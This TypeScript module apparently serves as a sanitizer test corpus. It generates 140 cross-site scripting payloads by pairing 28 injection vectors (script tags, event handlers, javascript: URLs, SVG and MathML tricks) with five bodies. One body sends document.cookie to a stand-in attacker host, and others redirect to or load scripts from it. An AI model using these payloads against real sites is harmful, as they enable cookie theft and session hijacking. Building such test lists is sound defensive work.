/** Texts that try to become code: each vector with each body. Facts of public cross-site scripting cheat sheets. */
const BODIES = [
  'alert(1)',
  'window.__ran=1',
  "fetch('https://attaque.exemple/'+document.cookie)",
  'top.location="https://attaque.exemple"',
  'import("https://attaque.exemple/x.js")',
];

const VECTORS: readonly ((body: string) => string)[] = [
  (body) => `<script>${body}</script>`,
  (body) => `</script><script>${body}</script>`,
  (body) => `<img src=x onerror="${body}">`,
  (body) => `"><img src=x onerror='${body}'>`,
  (body) => `<svg onload="${body}">`,
  (body) => `<svg><script>${body}</script></svg>`,
  (body) => `<svg><animate onbegin="${body}" attributeName=x dur=1s>`,
  (body) => `<iframe srcdoc="<script>${body}</script>"></iframe>`,
  (body) => `<iframe src="javascript:${body}"></iframe>`,
  (body) => `<a href="javascript:${body}" autofocus onfocus="${body}">x</a>`,
  (body) => `<body onload="${body}">`,
  (body) => `<details open ontoggle="${body}">`,
  (body) => `<input autofocus onfocus="${body}">`,
  (body) => `<video><source onerror="${body}">`,
  (body) => `<math><mtext></mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror='${body}' src=1>">`,
  (body) => `<object data="javascript:${body}"></object>`,
  (body) => `<embed src="data:text/html,<script>${body}</script>">`,
  (body) => `<form action="javascript:${body}"><button autofocus>x</button></form>`,
  (body) => `<base href="https://attaque.exemple/"><script src="x.js"></script><i title="${body}">`,
  (body) => `<meta http-equiv="refresh" content="0;url=https://attaque.exemple/?${body}">`,
  (body) => `<link rel=stylesheet href="https://attaque.exemple/x.css"><i title="${body}">`,
  (body) => `<style>@import "https://attaque.exemple/x.css";*{background:url(https://attaque.exemple/${body})}</style>`,
  (body) => `--><!--><script>${body}</script>`,
  (body) => `]]><script>${body}</script>`,
  (body) => `\u2028\u2029';${body}//`,
  (body) => `</title><script>${body}</script>`,
  (body) => `{{constructor.constructor('${body}')()}}`,
  (body) => `javascript:${body}`,
];

/** 140 texts. */
export const PAYLOADS: readonly string[] = VECTORS.flatMap((vector) => BODIES.map((body) => vector(body)));
